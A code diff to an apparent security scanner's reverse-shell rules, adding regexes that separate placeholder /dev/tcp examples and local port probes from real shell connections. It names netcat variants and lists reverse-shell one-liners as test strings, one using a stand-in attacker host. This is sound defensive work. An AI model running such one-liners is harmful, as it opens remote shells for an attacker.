@@ -9,6 +9,7 @@ const NETCAT = String.raw`(?:nc|ncat|netcat|nc\.traditional|nc\.openbsd)(?:\.exe
 /** A port check also opens /dev/tcp; a shell that is wired to it reads from it or writes to it. */
 function wiresShell({ text, before, after }: RuleMatch): boolean {
   const around = before + text + after;
+  if (LEFT_OPEN.test(text) || (HERE.test(text) && !/sh[ \t]{1,4}-\w{0,3}i/.test(around))) return false;
   return (
     /(?:ba|z|da|k)?sh[ \t]{1,4}-[a-z]{0,3}i|[0-9]?[<>]&[ \t]{0,2}[0-9]|exec[ \t]{1,4}[0-9]{1,3}<>|&>|>&/.test(
       around,
@@ -16,7 +17,24 @@ function wiresShell({ text, before, after }: RuleMatch): boolean {
   );
 }
 
+/** `/dev/tcp/ATTACKER_IP/PORT`: what a manual leaves open connects nowhere. */
+const LEFT_OPEN =
+  /\/dev\/(?:tcp|udp)\/(?:[A-Z]{2,10}(?:[_-][A-Z]{2,8}){0,3}|x{1,3}\.x{1,3}[\w.]{0,8}|host|ip)\//;
+/** Asking whether a port of this machine or its network answers sends nothing to anybody. */
+const NEAR = /\/dev\/tcp\/(?:10\.[\d.]{5,11}|192\.168\.[\d.]{3,7}|[a-z][\w-]{0,40})\//i;
+const HERE = /\/dev\/(?:tcp|udp)\/(?:localhost|127\.[\d.]{5,11}|\[?::1\]?|0\.0\.0\.0)\//i;
+
 const DEV_TCP = String.raw`/dev/(?:tcp|udp)/[A-Za-z0-9.$\[\]:\{\}_-]{1,80}/[0-9$\{A-Za-z]{1,24}`;
+
+/** `(echo > /dev/tcp/db/5432)`, `timeout 1 bash -c '</dev/tcp/localhost/80'`. */
+function isProbe({ text, before, after }: RuleMatch): boolean {
+  return (
+    HERE.test(text) ||
+    (NEAR.test(text) &&
+      (text.startsWith('<') || /(?:echo|printf|:|true)[^\r\n|;&]{0,12}$/.test(before)) &&
+      !after.includes('|'))
+  );
+}
 
 /** Reverse shells made of programs. */
 export const REVERSE_SHELL_TOOL_RULES: readonly Rule[] = [
@@ -48,7 +66,7 @@ export const REVERSE_SHELL_TOOL_RULES: readonly Rule[] = [
     keywords: ['/dev/tcp/', '/dev/udp/'],
     expression: expression('gi', String.raw`[<>][ \t]{0,4}\\{0,2}["']?`, DEV_TCP),
     reach: { before: 8, after: 120 },
-    validate: (match) => !wiresShell(match),
+    validate: (match) => !wiresShell(match) && !LEFT_OPEN.test(match.text) && !isProbe(match),
     describes: "A network connection opened by bash's /dev/tcp.",
     get finds() {
       return [
@@ -58,7 +76,13 @@ export const REVERSE_SHELL_TOOL_RULES: readonly Rule[] = [
       ];
     },
     get ignores() {
-      return ['bash -i >& /dev/tcp/192.0.2.1/4444 0>&1', 'see /dev/tcp/host/port', '>/dev/null'];
+      return [
+        'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1',
+        'see /dev/tcp/host/port',
+        '>/dev/null',
+        '(echo > /dev/tcp/localhost/5432) && echo up',
+        '# bash -i >& /dev/tcp/ATTACKER_IP/PORT 0>&1',
+      ];
     },
   },
   {
